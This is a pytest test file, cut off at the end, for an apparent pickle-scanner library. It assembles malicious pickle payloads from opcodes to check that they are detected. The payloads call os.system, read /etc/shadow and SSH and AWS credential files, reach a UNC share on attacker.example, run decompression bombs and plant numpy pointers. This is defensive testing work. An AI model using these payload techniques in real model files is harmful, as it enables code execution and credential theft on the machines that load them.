"""Red-team regressions for the pickle layer: bypasses found by attacking the analyser itself (not published
advisories), one section per class of attack, each with its variants and the benign files it must keep clean.

Every payload is assembled here from opcodes; nothing is ever unpickled.
"""

from __future__ import annotations

import pickle
import struct

import pytest

from loopwarden.checks.interface import Limits
from loopwarden.checks.models._base import ScanContext, bytes_blob
from loopwarden.checks.models.dispatch import scan_blob
from loopwarden.checks.models.pickle_vm import PickleResult, analyze_pickle_bytes
from loopwarden.checks.models.scanner import default_allow
from loopwarden.domain import Location, Severity

# --- opcodes -------------------------------------------------------------------------------------------------

P4 = b"\x80\x04"
STOP = b"."


def u(s: str) -> bytes:
    """SHORT_BINUNICODE / BINUNICODE."""
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def g(name: str) -> bytes:
    """STACK_GLOBAL of a dotted ``module.qualname`` (split at the last dot)."""
    module, _, qual = name.rpartition(".")
    return u(module) + u(qual) + b"\x93"


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def call(func: bytes, *args: bytes) -> bytes:
    """The opcodes of ``func(*args)`` (REDUCE), leaving the result on the stack."""
    return func + tup(*args) + b"R"


def worst(result: PickleResult) -> Severity | None:
    return max((f.severity for f in result.findings), default=None)


def subjects(result: PickleResult) -> set[str]:
    return {str(f.evidence.get("subject")) for f in result.findings}


def clean(result: PickleResult) -> None:
    assert result.unverified is None, result.unverified
    assert result.findings == (), [(f.rule_id, f.message) for f in result.findings]


# --- allow-listed helpers that call their arguments: numpy's random-state reconstructors -------------------
# __bit_generator_ctor(cls) calls cls(); __generator_ctor(name, ctor) and __randomstate_ctor(name, ctor) call
# ctor(name). A class the allow-list admits by its name pattern only (rebuilt, never called) or a user's class was
# called through them without a finding: BertWordPieceTokenizer("/any/file") reads the file at load time.

_NP = "numpy.random._pickle"
_PATTERN_CLASS = "tokenizers.implementations.bert_wordpiece.BertWordPieceTokenizer"
_SK_CLASS = "sklearn.linear_model._base.LinearRegression"


@pytest.mark.parametrize(
    ("payload", "subject"),
    [
        (call(g(f"{_NP}.__generator_ctor"), u("/home/user/.ssh/id_rsa"), g(_PATTERN_CLASS)), _PATTERN_CLASS),
        (call(g(f"{_NP}.__randomstate_ctor"), u("/home/user/.netrc"), g(_PATTERN_CLASS)), _PATTERN_CLASS),
        (call(g(f"{_NP}.__bit_generator_ctor"), g(_SK_CLASS)), _SK_CLASS),
        # one argument: the default ctor (__bit_generator_ctor) calls a class
        (call(g(f"{_NP}.__generator_ctor"), g(_SK_CLASS)), _SK_CLASS),
        (call(g(f"{_NP}.__randomstate_ctor"), g(_SK_CLASS)), _SK_CLASS),
        # a partial of the class as the ctor: any number of arguments
        (
            call(
                g(f"{_NP}.__generator_ctor"),
                u("x"),
                call(g("functools.partial"), g(_PATTERN_CLASS), u("/etc/shadow"), u("a")),
            ),
            _PATTERN_CLASS,
        ),
        # the ctor reached through a numpy reconstructor nested in a torch rebuild
        (
            call(
                g("torch._tensor._rebuild_from_type_v2"),
                g(f"{_NP}.__generator_ctor"),
                g("torch.Tensor"),
                tup(u("/etc/passwd"), g(_PATTERN_CLASS)),
                b"}",
            ),
            _PATTERN_CLASS,
        ),
    ],
)
def test_rng_ctor_calling_a_pattern_only_class_is_reported(payload: bytes, subject: str) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert worst(result) == Severity.HIGH, result
    assert f"{subject}()" in subjects(result)


def test_rng_ctor_calling_a_user_class_with_arguments_is_high() -> None:
    payload = call(g(f"{_NP}.__generator_ctor"), u("argument"), g("evilpkg.mod.Evil"))
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert "evilpkg.mod.Evil()" in subjects(result)
    assert worst(result) == Severity.HIGH


@pytest.mark.parametrize(
    "ctor",
    [
        g("builtins.getattr"),  # a getattr handed over as a value: reported where it is imported
        b"\x8c\x02os\x8c\x06system\x93",
        call(g("operator.attrgetter"), u("system")),
    ],
)
def test_rng_ctor_with_a_dangerous_ctor_is_critical(ctor: bytes) -> None:
    result = analyze_pickle_bytes(P4 + call(g(f"{_NP}.__randomstate_ctor"), u("id"), ctor) + STOP)
    assert worst(result) == Severity.CRITICAL, result


def test_rng_ctor_calling_a_loaded_object_is_reported() -> None:
    ctor = call(g("collections.OrderedDict"))  # an instance: calling it is a call of a load-time object
    result = analyze_pickle_bytes(P4 + call(g(f"{_NP}.__generator_ctor"), u("x"), ctor) + STOP)
    assert worst(result) == Severity.HIGH, result


@pytest.mark.parametrize(
    "payload",
    [
        # numpy >= 1.25, < 2: (class, __bit_generator_ctor)
        call(g(f"{_NP}.__generator_ctor"), g("numpy.random._pcg64.PCG64"), g(f"{_NP}.__bit_generator_ctor")),
        call(
            g(f"{_NP}.__randomstate_ctor"),
            g("numpy.random._mt19937.MT19937"),
            g(f"{_NP}.__bit_generator_ctor"),
        ),
        # numpy < 1.25: a name of numpy's own table
        call(g(f"{_NP}.__generator_ctor"), u("PCG64")),
        call(g(f"{_NP}.__randomstate_ctor"), u("MT19937")),
        call(g(f"{_NP}.__bit_generator_ctor"), u("Philox")),
        call(g(f"{_NP}.__bit_generator_ctor"), g("numpy.random._sfc64.SFC64")),
    ],
)
def test_rng_ctor_forms_numpy_writes_are_clean(payload: bytes) -> None:
    clean(analyze_pickle_bytes(P4 + payload + STOP))


@pytest.mark.parametrize("protocol", [2, 4, 5])
def test_real_numpy_random_states_are_clean(protocol: int) -> None:
    np = pytest.importorskip("numpy")
    objects = [
        np.random.default_rng(0),
        np.random.RandomState(1),
        np.random.Generator(np.random.Philox(2)),
        np.random.SFC64(3),
    ]
    clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))


# --- call arguments that are not a tuple ----------------------------------------------------------------------
# joblib's pure-Python unpickler runs REDUCE as func(*args) with any iterable, and torch's _rebuild_from_type(_v2)
# calls func(*args) too: a user's class called with a list, a dict (its keys) or a string (its characters) runs
# its constructor on pickle data, which was judged as a call without arguments (MEDIUM only).


@pytest.mark.parametrize(
    "payload",
    [
        g("evilpkg.Evil") + b"](" + u("rm -rf ~") + b"e" + b"R",
        g("evilpkg.Evil") + b"}" + u("rm -rf ~") + u("v") + b"s" + b"R",
        g("evilpkg.Evil") + u("rm -rf ~") + b"R",
        call(
            g("torch._tensor._rebuild_from_type_v2"),
            g("evilpkg.Evil"),
            g("torch.Tensor"),
            b"](" + u("a") + b"e",
            b"}",
        ),
        call(g("torch._tensor._rebuild_from_type"), g("evilpkg.Evil"), g("torch.Tensor"), u("ab"), b"}"),
    ],
)
def test_user_class_called_with_an_iterable_of_arguments_is_high(payload: bytes) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert "evilpkg.Evil()" in subjects(result), result
    assert worst(result) == Severity.HIGH


def test_user_class_rebuilt_without_arguments_stays_medium() -> None:
    for payload in (g("evilpkg.Evil") + b")\x81}b", g("evilpkg.Evil") + b"]R", g("evilpkg.Evil") + b"}R"):
        result = analyze_pickle_bytes(P4 + payload + STOP)
        assert worst(result) == Severity.MEDIUM, payload


# --- methods of loaded objects run by allow-listed helpers: operator.getitem and the copyreg builders ---------
# operator.getitem is allowed for typing generics (typing.Dict[str, int] pickles as getitem(Dict, (str, int))), but
# on an object rebuilt at load it runs that object's __getitem__: a defaultdict calls its factory, and transformers'
# _LazyConfigMapping (admitted by the class pattern) imports the transformers module its state names and returns
# any attribute of it (the subprocess module, get_class_from_dynamic_module ...). copyreg._reconstructor(cls, base,
# state) runs base.__new__ and base.__init__(obj, state); with a class fetched that way nothing was judged.

_LAZY = "transformers.models.auto.configuration_auto._LazyConfigMapping"


def _lazy_mapping(module: str, attr: str) -> bytes:
    state = b"}(" + u("_mapping") + b"}" + u(module) + u(attr) + b"s" + u("_extra_content") + b"}"
    return g(_LAZY) + b")\x81" + state + u("_modules") + b"}ub"


def _fetched(module: str = ".utils.import_utils", attr: str = "subprocess") -> bytes:
    return call(g("operator.getitem"), _lazy_mapping(module, attr), u(module))


@pytest.mark.parametrize(
    "payload",
    [
        _fetched(),
        _fetched(".dynamic_module_utils", "get_class_from_dynamic_module"),
        call(g("operator.getitem"), call(g("collections.defaultdict"), g(_SK_CLASS)), u("missing")),
        call(g("operator.getitem"), call(g("collections.ChainMap"), b"}"), u("k")),
        call(g("operator.getitem"), g("functools.partial") + b")\x81", u("k")),
    ],
)
def test_getitem_on_an_object_built_at_load_is_reported(payload: bytes) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert worst(result) == Severity.HIGH or worst(result) == Severity.CRITICAL, result
    assert any(s.endswith(".__getitem__") for s in subjects(result)), result


@pytest.mark.parametrize(
    "payload",
    [
        call(g("copyreg._reconstructor"), _fetched() + b"q\x00", b"h\x00", u("id")),
        call(g("copyreg._reconstructor"), g("builtins.object"), _fetched(), u("id")),
        call(g("copyreg.__newobj__"), _fetched()),
        call(g("copyreg.__newobj_ex__"), _fetched(), b")", b"}"),
        call(g("copyreg._reconstructor"), call(g("collections.OrderedDict")), g("builtins.object"), b"N"),
    ],
)
def test_copyreg_builders_over_a_computed_class_are_reported(payload: bytes) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert any(s.startswith("copyreg.") for s in subjects(result)), result
    assert worst(result) is not None
    assert worst(result) >= Severity.HIGH


def test_typing_generics_and_copyreg_over_named_classes_stay_clean() -> None:
    import collections
    import typing

    objects = {
        "a": typing.Dict[str, typing.List[int]],  # noqa: UP006 - the typing forms are what is pickled
        "b": typing.Optional[typing.Tuple[int, ...]],  # noqa: UP006, UP045
        "c": typing.Union[int, str],  # noqa: UP007
        "d": collections.OrderedDict(a=1),
        "e": collections.defaultdict(list, {"k": [1]}),
    }
    for protocol in (0, 1, 2, 4):
        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))
    # subscripting a constant or a named class, and the copyreg forms over named classes
    for payload in (
        call(g("operator.getitem"), b"](K\x01e", b"K\x00"),
        call(g("operator.getitem"), g("typing.Dict"), tup(g("builtins.str"), g("builtins.int"))),
        call(g("copyreg._reconstructor"), g("collections.OrderedDict"), g("builtins.object"), b"N"),
        call(g("copyreg.__newobj__"), g("collections.OrderedDict")),
    ):
        clean(analyze_pickle_bytes(P4 + payload + STOP))


# --- item opcodes on objects pickle never fills -----------------------------------------------------------------
# SETITEM(S), APPEND(S) and ADDITEMS on anything but a dict, list or set call the object's __setitem__, append,
# extend or add. On a class, function or module that changes global state (as BUILD does); ADDITEMS is written
# for sets only, and add() is not among the hooks the reference list of pattern classes reviews.

_FLOAT_FUNCTIONAL = "torch.ao.nn.quantized.modules.functional_modules.FloatFunctional"


@pytest.mark.parametrize(
    ("payload", "severity"),
    [
        (g("collections.OrderedDict") + u("k") + u("v") + b"s", Severity.CRITICAL),
        (g("collections.OrderedDict") + b"(" + u("k") + u("v") + b"u", Severity.CRITICAL),
        (g("torch.nn.modules.container.ModuleList") + b"(" + u("k") + b"e", Severity.CRITICAL),
        (g("torch.nn.modules.container.ModuleList") + u("k") + b"a", Severity.CRITICAL),
        (g("typing.List") + b"(" + u("k") + b"\x90", Severity.CRITICAL),
        (g(_FLOAT_FUNCTIONAL) + b")\x81(" + u("x") + b"\x90", Severity.HIGH),
        (call(g("collections.OrderedDict")) + b"(" + u("x") + b"\x90", Severity.HIGH),
    ],
)
def test_item_opcodes_on_globals_and_adds_on_non_sets_are_reported(
    payload: bytes, severity: Severity
) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert worst(result) == severity, result


def test_containers_pickle_fills_stay_clean() -> None:
    import collections

    objects = [
        {1, 2, frozenset({3})},
        collections.OrderedDict(a=1),
        collections.Counter("aab"),
        collections.deque([1, 2]),
        collections.defaultdict(list, a=[1]),
    ]
    for protocol in (0, 2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))
    # a set rebuilt by REDUCE and filled by ADDITEMS, as a hand-written stream may do
    clean(analyze_pickle_bytes(P4 + call(g("builtins.set")) + b"(K\x01\x90" + STOP))


# --- decompression inside the analysis is bounded ---------------------------------------------------------------
# The analyser evaluates string builders so that names and nested pickles are resolved; codecs.decode(x, 'zlib')
# inflated without a bound, so a 3.5 KB file of two nested zlib stages made the scanner allocate gigabytes.


@pytest.mark.parametrize("codec", ["zlib", "zlib_codec", "ZLIB"])
def test_zlib_codec_inside_the_pickle_is_inflated_within_the_nested_bound(codec: str) -> None:
    import zlib

    bomb = zlib.compress(b"\0" * (48 << 20), 9)
    assert len(bomb) < 1 << 16  # kept as a constant by the analyser
    data = b"B" + struct.pack("<I", len(bomb)) + bomb
    payload = call(g("pickle.loads"), call(g("_codecs.decode"), data, u(codec)))
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert worst(result) == Severity.CRITICAL
    assert result.unverified is not None
    assert "computed at load time" in result.unverified


def test_zlib_codec_of_a_small_nested_pickle_is_still_analysed() -> None:
    import zlib

    inner = P4 + call(g("os.system"), u("id")) + STOP
    packed = zlib.compress(inner)
    payload = call(
        g("pickle.loads"), call(g("_codecs.decode"), b"C" + bytes([len(packed)]) + packed, u("zlib"))
    )
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert "os.system" in subjects(result)


# --- string builders the analysis evaluates cannot amplify ------------------------------------------------------
# Names and nested pickles built from pieces are evaluated (operator.add, str.join/replace/format, codecs, base64,
# zlib). A value reused through the memo doubled at each operator.add, and one str.replace or a format width made
# gigabytes: a file of a few hundred bytes exhausted the scanner's memory. Each computed value is now paid for
# from a budget before it is made; past it the value is unknown (so a name built from it is LW-MODEL-014, a
# nested pickle built from it unverified), while the payload's imports are still reported.


def _doubling(op: str, rounds: int = 40) -> bytes:
    body = g(op) + b"q\x00" + u("A" * 200) + b"q\x01"
    for _ in range(rounds):
        body += b"h\x00h\x01h\x01\x86Rq\x010"
    return body + b"h\x01"


def _method(const: str, name: str, *args: bytes) -> bytes:
    return call(call(g("builtins.getattr"), u(const), u(name)), *args)


@pytest.mark.parametrize(
    "payload",
    [
        _doubling("operator.add"),
        _doubling("_operator.concat"),
        _method("A" * 60000, "replace", u("A"), u("B" * 60000)),
        _method("A" * 60000, "replace", u(""), u("B" * 10000)),
        _method("{:>999999999}", "format", u("x")),
        _method("{0}" * 20000, "format", u("C" * 60000)),
        _method("A" * 60000, "join", b"(" + u("B" * 60000) + b"q\x09" + b"h\x09" * 5000 + b"l"),
    ],
    ids=["add", "concat", "replace", "replace-empty", "format-width", "format-repeat", "join"],
)
def test_amplifying_string_builders_are_not_evaluated_past_the_budget(payload: bytes) -> None:
    # the amplified value used as a module name: unknown (computed at load time), never a gigabyte string
    result = analyze_pickle_bytes(P4 + payload + u("system") + b"\x93" + STOP)
    assert "?.system" in result.callables, [c[:40] for c in result.callables]
    assert any(f.rule_id == "LW-MODEL-014" for f in result.findings)
    assert worst(result) == Severity.CRITICAL  # the resolver itself (operator, getattr) is reported


@pytest.mark.parametrize(
    ("payload", "name"),
    [
        (_method("{}.{}", "format", u("o"), u("s")), "o.s"),
        (_method("{0}{1}", "format", u("o"), u("s")), "os"),
        (_method("{{x}}{}", "format", u("os")), "{x}os"),
        (_method("_".join(["p", "s"]), "replace", u("_"), u("o")), "pos"),
        (_method("", "join", b"(" + u("o") + u("s") + b"l"), "os"),
        (call(g("_operator.add"), u("o"), u("s")), "os"),
    ],
    ids=["format-dotted", "format-numbered", "format-escaped", "replace", "join", "add"],
)
def test_names_built_from_pieces_are_still_resolved(payload: bytes, name: str) -> None:
    result = analyze_pickle_bytes(P4 + payload + u("system") + b"\x93" + STOP)
    assert f"{name}.system" in result.callables, result.callables


def test_format_with_a_spec_or_attribute_is_unknown() -> None:
    for template in ("{:>3}", "{0.real}", "{0[0]}", "{!r}"):
        payload = _method(template, "format", u("os")) + u("system") + b"\x93"
        result = analyze_pickle_bytes(P4 + payload + STOP)
        assert "?.system" in result.callables, (template, result.callables)


# --- allow-listed pandas calls that read a file named by the pickle --------------------------------------------
# pandas resolves a time-zone string 'dateutil/<name>' with dateutil.tz.gettz(name), which opens <name> as a file
# when it is a path: pandas.Timestamp(..., tz=...), pandas.DatetimeTZDtype(unit, tz) and _new_DatetimeIndex(cls,
# {'tz': ...}) read /etc/shadow, block on /dev/stdin, or (on Windows) authenticate to a UNC share at load.
# pickle writes time zones as objects (tzfile(None, path) of dateutil), never as such strings.

_TZ_PATHS = [
    "dateutil//etc/shadow",
    "dateutil/../../../../home/user/.aws/credentials",
    "dateutil/\\\\attacker.example\\share\\x",
    "dateutil//dev/stdin",
]


@pytest.mark.parametrize("tz", _TZ_PATHS)
@pytest.mark.parametrize(
    "build",
    [
        lambda tz: call(g("pandas.DatetimeTZDtype"), u("ns"), u(tz)),
        lambda tz: call(g("pandas.core.dtypes.dtypes.DatetimeTZDtype"), u("ns"), u(tz)),
        lambda tz: call(g("pandas.Timestamp"), u("2020-01-01"), *[b"N"] * 8, u(tz)),
        lambda tz: g("pandas.Timestamp") + tup(u("2020")) + b"}" + u("tz") + u(tz) + b"s\x92",
        lambda tz: call(
            g("pandas.core.indexes.datetimes._new_DatetimeIndex"),
            g("pandas.DatetimeIndex"),
            b"}(" + u("data") + b"]" + u("tz") + u(tz) + u("freq") + b"Nu",
        ),
    ],
    ids=["dtype", "dtype-module", "timestamp", "timestamp-newobj-ex", "datetime-index"],
)
def test_pandas_time_zone_path_is_a_file_read(build: object, tz: str) -> None:
    result = analyze_pickle_bytes(P4 + build(tz) + STOP)  # type: ignore[operator]
    assert worst(result) == Severity.HIGH, result
    assert any(f.rule_id == "LW-MODEL-004" for f in result.findings)


def test_pandas_zone_names_and_real_tz_aware_objects_stay_clean() -> None:
    for tz in ("dateutil/Europe/London", "dateutil/UTC", "Europe/Paris", "dateutil/Etc/GMT+5"):
        clean(analyze_pickle_bytes(P4 + call(g("pandas.DatetimeTZDtype"), u("ns"), u(tz)) + STOP))
    pd = pytest.importorskip("pandas")
    dateutil_tz = pytest.importorskip("dateutil.tz")
    objects = [
        pd.Timestamp("2020-01-01", tz="dateutil/Europe/London"),
        pd.Series(pd.date_range("2020", periods=3, tz="dateutil/Asia/Tokyo")),
        pd.DatetimeTZDtype("ns", dateutil_tz.gettz("America/New_York")),
        pd.DataFrame(
            {"t": pd.date_range("2021", periods=2, tz="UTC"), "p": pd.period_range("2020", periods=2)}
        ),
    ]
    for protocol in (2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))


# --- allow-listed model classes whose constructor reads a file --------------------------------------------------
# xgboost's and LightGBM's Booster(params, ..., model_file=path) load the model from the path the arguments name;
# pickle rebuilds a Booster by NEWOBJ + BUILD (the state holds the model bytes), so only that is admitted.


@pytest.mark.parametrize(
    "payload",
    [
        call(g("xgboost.core.Booster"), b"N", b"N", u("/home/user/.ssh/id_ed25519")),
        call(g("lightgbm.basic.Booster"), b"}", b"N", u("/etc/shadow")),
        b"(" + g("lightgbm.basic.Booster") + b"}" + b"N" + u("/etc/shadow") + b"o",
        call(
            g("copyreg._reconstructor"),
            g("xgboost.core.Booster"),
            g("xgboost.core.Booster"),
            u("/etc/shadow"),
        ),
        # CatBoost's constructor takes train_dir and friends; pickle never calls it
        call(g("catboost.core.CatBoostClassifier")),
        b"(" + g("catboost.core.CatBoostRegressor") + b"o",
        call(g("copyreg._reconstructor"), g("catboost.core.CatBoost"), g("catboost.core.CatBoost"), b"N"),
    ],
)
def test_booster_called_with_arguments_is_reported(payload: bytes) -> None:
    result = analyze_pickle_bytes(P4 + payload + STOP)
    assert worst(result) == Severity.HIGH, result
    assert any(
        s.endswith(("Booster()", "CatBoostClassifier()", "CatBoostRegressor()", "CatBoost()"))
        for s in subjects(result)
    )


@pytest.mark.parametrize(
    "name", ["catboost.core.load_model", "catboost.core.to_classifier", "catboost.core.Pool"]
)
def test_catboost_names_beside_its_models_are_reported(name: str) -> None:
    result = analyze_pickle_bytes(P4 + call(g(name), u("/tmp/model.cbm")) + STOP)
    assert worst(result) >= Severity.HIGH, result


def test_booster_rebuilt_as_pickle_writes_it_is_clean() -> None:
    """xgboost, LightGBM and CatBoost (CatBoost.__getstate__: the init params and '__model', its bytes)."""
    for cls in (
        "xgboost.core.Booster",
        "lightgbm.basic.Booster",
        "catboost.core.CatBoost",
        "catboost.core.CatBoostClassifier",
        "catboost.core.CatBoostRegressor",
        "catboost.core.CatBoostRanker",
    ):
        state = b"}" + u("handle") + b"C\x04\x00\x01\x02\x03" + b"s"
        clean(analyze_pickle_bytes(P4 + g(cls) + b")\x81" + state + b"b" + STOP))
        clean(
            analyze_pickle_bytes(
                b"\x80\x02"
                + call(g("copyreg._reconstructor"), g(cls), g("builtins.object"), b"N")
                + state
                + b"b"
                + STOP
            )
        )


# --- polyglots that call a module the scanner does not know -----------------------------------------------------
# A file of another format whose first bytes are also opcodes (GIF89a: 'G' is BINFLOAT and eats 8 bytes) is read
# as pickle.load reads it, but a name of a module no model environment has is not judged there, so that text
# that happens to start like a GLOBAL ("certifi\nnumpy") stays text. hydra, mmengine or absl are installed in
# many ML environments: hydra.utils.instantiate({'_target_': 'os.system', '_args_': ['id']}) in a GIF named
# model.pkl was reported clean. Such a name is now judged once the reading calls or instantiates it.


def _scan_file(name: str, data: bytes) -> ScanContext:
    ctx = ScanContext(name, Limits(), default_allow())
    scan_blob(bytes_blob(name, Location(name), data, 0), ctx)
    return ctx


_HYDRA_CFG = b"}" + u("_target_") + u("os.system") + b"s" + u("_args_") + b"](" + u("id") + b"es"
_UNKNOWN_CALLS = {
    "reduce": call(g("hydra.utils.instantiate"), _HYDRA_CFG),
    "obj": b"(" + g("hydra.utils.call") + _HYDRA_CFG + b"o",
    "inst": b"(" + _HYDRA_CFG + b"ihydra.utils\ninstantiate\n",
    "newobj": g("mmengine.config.Config") + tup(u("/home/user/config.py")) + b"\x81",
    "reduce-proto0": b"cabsl.app\nrun\n(" + b"S'main'\n" + b"tR",
}


@pytest.mark.parametrize("payload", _UNKNOWN_CALLS.values(), ids=_UNKNOWN_CALLS.keys())
@pytest.mark.parametrize(
    ("name", "head"),
    [
        ("model.pkl", b"GIF89a\x01\x00\x01" + b"0"),
        ("pytorch_model.bin", b"GIF87a\x10\x00\x10" + b"0"),
        ("weights.gif", b"GIF89a\x01\x00\x01" + b"0"),
        ("notes.txt", b""),
    ],
)
def test_polyglot_calling_an_unknown_module_is_reported(name: str, head: bytes, payload: bytes) -> None:
    ctx = _scan_file(name, head + payload + STOP + b"\x00" * 16)
    # a class instantiated without its constructor is a user's class (MEDIUM), as in any pickle; calls are HIGH
    least = Severity.MEDIUM if payload == _UNKNOWN_CALLS["newobj"] else Severity.HIGH
    judged = [f for f in ctx.findings if f.rule_id in ("LW-MODEL-005", "LW-MODEL-006")]
    assert judged, (ctx.formats, ctx.findings, ctx.unverified)
    assert max(f.severity for f in judged) >= least


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("labels.txt", b"cat\ndog\n"),
        ("requirements.txt", b"certifi\nnumpy\ntorch\n"),
        ("g.gif", b"GIF89a" + bytes(range(256))),
        ("unknown-name-not-called.bin", b"GIF89a\x01\x00\x01" + b"0cmadeup\nname\n0" + STOP),
    ],
)
def test_other_formats_that_only_name_an_unknown_module_stay_clean(name: str, data: bytes) -> None:
    ctx = _scan_file(name, data)
    assert not [f for f in ctx.findings if f.rule_id != "LW-MODEL-029"], ctx.findings
    assert not ctx.unverified


# --- state that shadows a method the class's __setstate__ calls -------------------------------------------------
# SciPy's rv_generic.__setstate__ does self.__dict__.update(state) and then self._attach_methods(): an instance
# attribute of that name, stored in the state, is what gets called. A functools.partial of a class the pattern
# admits (allowed to be kept, never called) was called that way: BertWordPieceTokenizer('/etc/shadow') at load.


@pytest.mark.parametrize("key", ["_attach_methods", "_attach_argparser_methods"])
@pytest.mark.parametrize(
    "cls", ["scipy.stats._continuous_distns.norm_gen", "scipy.stats._discrete_distns.binom_gen"]
)
def test_scipy_state_replacing_a_method_setstate_calls_is_critical(key: str, cls: str) -> None:
    planted = call(g("functools.partial"), g(_PATTERN_CLASS), u("/etc/shadow"))
    state = b"}" + u("numargs") + b"K\x01s" + u(key) + planted + b"s"
    result = analyze_pickle_bytes(P4 + g(cls) + b")\x81" + state + b"b" + STOP)
    assert worst(result) == Severity.CRITICAL, result
    assert f"{cls}.__setstate__" in subjects(result)


def test_real_scipy_distributions_stay_clean() -> None:
    stats = pytest.importorskip("scipy.stats")
    objects = [stats.norm, stats.binom, stats.gamma(2.0), stats.poisson(3)]
    for protocol in (2, 4, 5):
        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))


_PLANT = call(g("functools.partial"), g(_PATTERN_CLASS), u("/etc/shadow"))


@pytest.mark.parametrize(
    ("cls", "key", "tail"),
    [
        ("torch.optim.sgd.SGD", "_patch_step_function", b""),
        ("sklearn.isotonic.IsotonicRegression", "_build_f", b""),
        (
            "torch.nn.modules.container.Sequential",
            "_get_item_by_idx",
            b"K\x00" + g("torch.nn.modules.linear.Identity") + b")\x81s",
        ),
        (
            "torch.nn.modules.container.ModuleList",
            "add_module",
            g("torch.nn.modules.linear.Identity") + b")\x81a",
        ),
        ("torch.nn.modules.container.ParameterList", "append", b"(K\x01e"),
        ("transformers.generation.configuration_utils.GenerationConfig", "to_json_string", b""),
    ],
)
def test_state_planting_a_method_the_class_calls_at_load_is_critical(cls: str, key: str, tail: bytes) -> None:
    state = b"}" + u(key) + _PLANT + b"s"
    result = analyze_pickle_bytes(P4 + g(cls) + b")\x81" + state + b"b" + tail + STOP)
    assert key in subjects(result), result
    assert worst(result) == Severity.CRITICAL


def test_state_keys_named_like_methods_with_constant_values_stay_clean() -> None:
    # a constant under such a name cannot be called (the loader would fail); real objects never have one
    state = b"}" + u("append") + b"\x88s" + u("to_json_string") + u("x") + b"s"
    clean(analyze_pickle_bytes(P4 + g("collections.OrderedDict") + b")\x81" + state + b"b" + STOP))


def test_real_torch_and_sklearn_objects_with_those_hooks_stay_clean() -> None:
    torch = pytest.importorskip("torch")
    sklearn_isotonic = pytest.importorskip("sklearn.isotonic")
    seq = torch.nn.Sequential(torch.nn.Linear(2, 2), torch.nn.ReLU())
    objects = [
        seq,
        torch.nn.ModuleList([torch.nn.Identity()]),
        torch.nn.ParameterList([torch.nn.Parameter(torch.zeros(1))]),
        torch.optim.SGD(seq.parameters(), lr=0.1),
        sklearn_isotonic.IsotonicRegression().fit([1.0, 2.0, 3.0], [1.0, 3.0, 2.0]),
    ]
    for protocol in (2, 4):
        clean(analyze_pickle_bytes(pickle.dumps(objects, protocol=protocol)))


def test_parameter_state_is_judged_like_build_state() -> None:
    # _rebuild_parameter_with_state(data, requires_grad, hooks, state) runs _set_obj_state(param, state)
    tensor = call(g("torch._utils._rebuild_tensor_v2"), b"N", b"K\x00", b")", b")", b"\x89", b"N")
    for state in (
        b"}" + u("__class__") + g("torch.Tensor") + b"s",
        b"(}" + u("__setstate__") + g("builtins.str") + b"s}t",
    ):
        payload = call(
            g("torch._utils._rebuild_parameter_with_state"),
            tensor,
            b"\x89",
            call(g("collections.OrderedDict")),
            state,
        )
        result = analyze_pickle_bytes(P4 + payload + STOP)
        assert worst(result) == Severity.CRITICAL, result
    benign = b"}" + u("my_flag") + b"\x88s"
    payload = call(
        g("torch._utils._rebuild_parameter_with_state"),
        tensor,
        b"\x89",
        call(g("collections.OrderedDict")),
        benign,
    )
    clean(analyze_pickle_bytes(P4 + payload + STOP))


# --- numpy dtype state that hides object fields ------------------------------------------------------------------
# numpy takes a structured dtype's flags from its pickled state as they are. With NPY_ITEM_REFCOUNT cleared for a
# dtype that has an object field, ndarray.__setstate__ (and joblib's frombuffer) copy the array's raw bytes into
# that field: pointers the file chose, which any access dereferences (a crash at 0x4141414141414141, or worse).


def _dtype(
    spec: str, flags: int, names: bytes = b"N", fields: bytes = b"N", size: int = -1, sub: bytes = b"N"
) -> bytes:
    state = tup(
        b"K\x03",
        u("|"),
        sub,
        names,
        fields,
        b"J" + struct.pack("<i", size),
        b"J\xff\xff\xff\xff",
        b"J" + struct.pack("<i", flags),
    )
    return call(g("numpy.dtype"), u(spec), b"\x89", b"\x88") + state + b"b"


_OBJ = _dtype("O8", 63)
_F8 = _dtype("f8", 0)
_FIELDS = b"}" + u("a") + tup(_F8, b"K\x00") + b"s" + u("o") + tup(_OBJ, b"K\x08") + b"s"
_NESTED = (
    b"}"
    + u("n")
    + tup(_dtype("V8", 27, tup(u("o")), b"}" + u("o") + tup(_OBJ, b"K\x00") + b"s", 8), b"K\x00")
    + b"s"
)


@pytest.mark.parametrize("flags", [0, 2, 0x1A, -2])
@pytest.mark.parametrize(
    "dtype",
    [
        lambda f: _dtype("V16", f, tup(u("a"), u("o")), _FIELDS, 16),
        lambda f: _dtype("V8", f, tup(u("n")), _NESTED, 8),
        lambda f: _dtype("V16", f, sub=tup(_OBJ, tup(b"K\x02")), size=16),
    ],
    ids=["fields", "nested", "subarray"],
)
def test_dtype_state_hiding_object_fields_is_reported(dtype: object, flags: int) -> None:
    array = call(g("numpy.core.multiarray._reconstruct"), g("numpy.ndarray"), tup(b"K\x00"), b"C\x01b")
    state = tup(b"K\x01", tup(b"K\x01"), dtype(flags), b"\x89", b"C\x10" + b"A" * 16)  # type: ignore[operator]
    result = analyze_pickle_bytes(P4 + array + state + b"b" + STOP)
    assert "numpy.dtype:object-flags" in subjects(result), result
    assert worst(result) == Severity.HIGH


def test_real_structured_and_object_dtypes_stay_clean() -> None:
    np = pytest.importorskip("numpy")
    arrays = [
        np.zeros(2, dtype=[("a", "f8"), ("o", "O")]),
        np.zeros(3, dtype=[("x", "f4"), ("y", [("z", "O")])]),
        np.zeros(2, dtype=("O", (2,))),
